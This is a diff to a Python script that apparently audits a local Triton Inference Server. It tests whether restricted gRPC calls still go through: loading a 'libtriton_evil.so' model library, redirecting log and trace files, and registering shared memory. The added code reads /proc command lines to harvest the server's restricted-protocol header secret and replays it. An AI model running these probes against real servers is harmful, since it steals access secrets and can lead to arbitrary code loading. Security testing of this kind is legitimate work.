@@ -19,9 +19,9 @@ from tritonclient.grpc import service_pb2
 from tritonclient.utils import InferenceServerException
 
 HEADERS, DATA, SETTINGS, RST_STREAM, GOAWAY = 1, 0, 4, 3, 7
-_HEADER = "triton-grpc-protocol-CLOSED TO EVERYONE"
-HEADER_NAMES = (_HEADER, _HEADER.lower(), _HEADER.replace(" ", "-"), _HEADER.replace(" ", "-").lower(), "")
 LIBRARY = "file:1/libtriton_evil.so"
+WRITTEN = "/tmp/evil"  # noqa: S108 - what Triton would write
+ENVIRONMENT = "/tmp/e.tar.gz"  # noqa: S108 - as above
 
 
 def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
@@ -63,7 +63,7 @@ def _messages() -> dict[str, bytes]:
         ("library", {"backend": "evil"}),
         (
             "env",
-            {"backend": "python", "parameters": {"EXECUTION_ENV_PATH": {"string_value": "/tmp/e.tar.gz"}}},
+            {"backend": "python", "parameters": {"EXECUTION_ENV_PATH": {"string_value": ENVIRONMENT}}},
         ),
     ):
         load = service_pb2.RepositoryModelLoadRequest(model_name="evil")
@@ -80,15 +80,24 @@ def _messages() -> dict[str, bytes]:
     found["SystemSharedMemoryUnregister all"] = service_pb2.SystemSharedMemoryUnregisterRequest()
     found["CudaSharedMemoryStatus all"] = service_pb2.CudaSharedMemoryStatusRequest()
     trace = service_pb2.TraceSettingRequest()
-    trace.settings["trace_file"].value.append("/tmp/evil")
+    trace.settings["trace_file"].value.append(WRITTEN)
     found["TraceSetting file"] = trace
     log = service_pb2.LogSettingsRequest()
-    log.settings["log_file"].string_param = "/tmp/evil"
+    log.settings["log_file"].string_param = WRITTEN
     found["LogSettings file"] = log
     return {name: message.SerializeToString() for name, message in found.items()}
 
 
-def _by_library(url: str) -> list[str]:
+def _headers(command: str) -> list[tuple[str, str]]:
+    """What the command line says that opens the protocols, in each way of writing it; an empty name: nothing."""
+    opens = command.partition("--grpc-restricted-protocol=")[2].partition("\0")[0].partition(":")[2]
+    name, _, value = opens.partition("=")
+    name = f"triton-grpc-protocol-{name}"
+    written = (name, name.lower(), name.upper(), name.replace(" ", "-"), name.replace(" ", "-").lower())
+    return [("", ""), *((each, value) for each in dict.fromkeys(written))]
+
+
+def _by_library(url: str, headers: list[tuple[str, str]]) -> list[str]:
     """Attacks by tritonclient that were not refused as restricted."""
     client = triton_grpc.InferenceServerClient(url)
     calls = {
@@ -97,14 +106,14 @@ def _by_library(url: str) -> list[str]:
         ),
         "unload": lambda h: client.unload_model("linear", h),
         "register": lambda h: client.register_system_shared_memory("evil", "/evil", 64, headers=h),
-        "trace": lambda h: client.update_trace_settings(None, {"trace_file": "/tmp/evil"}, h),  # noqa: S108
-        "log": lambda h: client.update_log_settings({"log_file": "/tmp/evil"}, h),  # noqa: S108
+        "trace": lambda h: client.update_trace_settings(None, {"trace_file": WRITTEN}, h),
+        "log": lambda h: client.update_log_settings({"log_file": WRITTEN}, h),
     }
     open_calls = []
     for name, call in calls.items():
-        for header in HEADER_NAMES:
+        for header, value in headers:
             try:
-                call({header: "x"} if header else None)
+                call({header: value} if header else None)
                 open_calls.append(f"{name} {header}")
             except InferenceServerException as error:
                 # gRPC's own client does not even send a header whose name is invalid.
@@ -147,6 +156,8 @@ def main() -> None:
         for path in Path("/proc").glob("[0-9]*/cmdline")
         if path.is_file()
     ]
+    command = next((line for line in lines if f"--grpc-port={port}\0" in line), "")
+    headers = _headers(command)
     found = {
         "uid": os.getuid(),
         "live": raw_call(port, f"{service}/ServerLive", b""),
@@ -154,15 +165,15 @@ def main() -> None:
         "raw": [
             f"{name} {header}"
             for name, message in messages.items()
-            for header in HEADER_NAMES
-            if raw_call(port, f"{service}/{name.split()[0]}", message, ((header, "x"),) if header else ())
+            for header, value in headers
+            if raw_call(port, f"{service}/{name.split()[0]}", message, ((header, value),) if header else ())
         ],
-        "library": _by_library(f"127.0.0.1:{port}"),
+        "library": _by_library(f"127.0.0.1:{port}", headers),
         "admin": _connects(admin),
         "folder": os.access(Path(admin).parent, os.R_OK | os.X_OK)
         or os.access(Path(admin).parents[1], os.X_OK),
         "memory": _readable(Path("/dev/shm")),  # noqa: S108 - where it lies
-        "command": next((line.replace("\0", " ") for line in lines if f"--grpc-port={port}\0" in line), ""),
+        "command": command.replace("\0", " "),
     }
     print(json.dumps(found))
 
